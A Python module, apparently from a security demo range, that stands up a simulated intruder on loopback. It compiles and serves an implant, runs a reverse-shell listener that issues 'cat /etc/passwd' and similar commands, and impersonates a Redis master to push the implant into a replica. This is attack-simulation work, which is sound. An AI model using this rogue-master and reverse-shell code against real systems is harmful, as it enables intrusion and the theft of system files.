"""The intruder's own machine, on another loopback address, and the implants it gives orders to."""

import select
import socketserver
import subprocess
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any, Self
from urllib.parse import urlsplit

from baseline.demo.attacker import ADDRESS, attacker
from baseline.errors import BaselineError

SECONDS_FOR_AN_ORDER = 30
SECONDS_TO_END = 5
SECONDS_OF_A_CONVERSATION = 6

_SOURCE = Path(__file__).parents[1] / "programs" / "implant.c"
_REPLICATION = {b"PING": b"+PONG\r\n", b"REPLCONF": b"+OK\r\n"}


class Implant:
    """A program of the intruder's that runs inside a service and waits for orders.

    Args:
        start: starts it, given what Popen takes.
    """

    def __init__(self, start: Callable[..., subprocess.Popen[bytes]]) -> None:
        self._process = start(stdin=subprocess.PIPE, stdout=subprocess.PIPE)

    def order(self, words: str) -> str:
        """Have an order carried out; returns how it ended: ``done`` or ``refused: WHY``.

        Raises:
            BaselineError: there is no answer.
        """
        process = self._process
        assert process.stdin  # noqa: S101 - for the type checker
        assert process.stdout  # noqa: S101 - for the type checker
        process.stdin.write(f"{words}\n".encode())
        process.stdin.flush()
        answered, _, _ = select.select([process.stdout], [], [], SECONDS_FOR_AN_ORDER)
        answer = process.stdout.readline().decode().strip() if answered else ""
        if not answer:
            raise BaselineError(f"The implant did not answer to {words!r}", "See whether it runs")
        return answer

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        """Let it end."""
        try:
            self._process.communicate(timeout=SECONDS_TO_END)
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.communicate()


class Intruder:
    """What an intruder has: servers that services can reach, and implants inside them.

    Attributes:
        implant: the program of its implants, which needs no library.
        stage: URL of a Perl program that runs another one from memory.
        tool: URL of a program.
        web: port at which both are served.
        listener: port at which it awaits reverse shells, beacons, shares of a pool and loot.
        heard: the first words of all who called there.
        implants: those that stay inside, by workload.
    """

    def __init__(self, implant: Path, stage: str, listener: int, heard: list[bytes]) -> None:
        self.implant = implant
        self.stage = stage
        self.tool = stage.replace("/stage", "/tool")
        self.web = urlsplit(stage).port
        self.listener = listener
        self.heard = heard
        self.implants: dict[str, Implant] = {}
        self._stack = ExitStack()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._stack.close()

    def settle(self, workload: str, implant: Implant) -> None:
        """Have an implant in a workload until the end."""
        self.implants[workload] = self._stack.enter_context(implant)


class _Listener(socketserver.BaseRequestHandler):
    """Plays whichever part fits the first words of who calls."""

    def handle(self) -> None:
        self.request.settimeout(0.3)
        try:
            first = self.request.recv(4096)
        except OSError:
            first = b""  # a shell waits for us
        self.server.heard.append(first)  # type: ignore[attr-defined]  # set below
        self.request.settimeout(SECONDS_OF_A_CONVERSATION)
        try:
            if b"PING" in first:
                self._be_a_master(first)
            else:
                self.request.sendall(b"id\nuname -a\ncat /etc/passwd\nexit\n")
                while self.request.recv(65536):
                    pass
        except OSError:
            return

    def _be_a_master(self, said: bytes) -> None:
        """Hand a replica of redis a program where its snapshot should be."""
        while said:
            if b"PSYNC" in said:
                file = self.server.file  # type: ignore[attr-defined]  # set below
                identity = b"0" * 40
                self.request.sendall(b"+FULLRESYNC %b 0\r\n$%d\r\n" % (identity, len(file)) + file)
                self.request.recv(4096)
                return
            answer = next((a for word, a in _REPLICATION.items() if word in said), b"+OK\r\n")
            self.request.sendall(answer)
            said = self.request.recv(4096)


class _Server(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    file: bytes = b""

    def __init__(self, *arguments: Any) -> None:
        super().__init__(*arguments)
        self.heard: list[bytes] = []


@contextmanager
def intruding() -> Iterator[Intruder]:
    """An intruder at work while the context lasts.

    Raises:
        BaselineError: its program cannot be compiled.
    """
    with ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="baseline-range-")))
        folder.chmod(0o755)
        implant = folder / "implant"
        _compile(implant)
        program = implant.read_bytes()
        stage = stack.enter_context(attacker({"/tool": program}))
        server: Any = stack.enter_context(_Server((ADDRESS, 0), _Listener))
        server.file = program
        threading.Thread(target=server.serve_forever, daemon=True).start()
        stack.callback(server.shutdown)
        yield stack.enter_context(Intruder(implant, stage, server.server_address[1], server.heard))


def _compile(out: Path) -> None:
    command = ["gcc", "-O1", "-static", str(_SOURCE), "-luring", "-o", str(out)]
    try:
        subprocess.run(command, capture_output=True, text=True, check=True)
    except (FileNotFoundError, subprocess.CalledProcessError) as error:
        reason = getattr(error, "stderr", None) or str(error)
        raise BaselineError(
            f"{_SOURCE.name} does not compile: {reason.strip()[:200]}",
            "Run: apt install gcc libc6-dev liburing-dev",
        ) from error
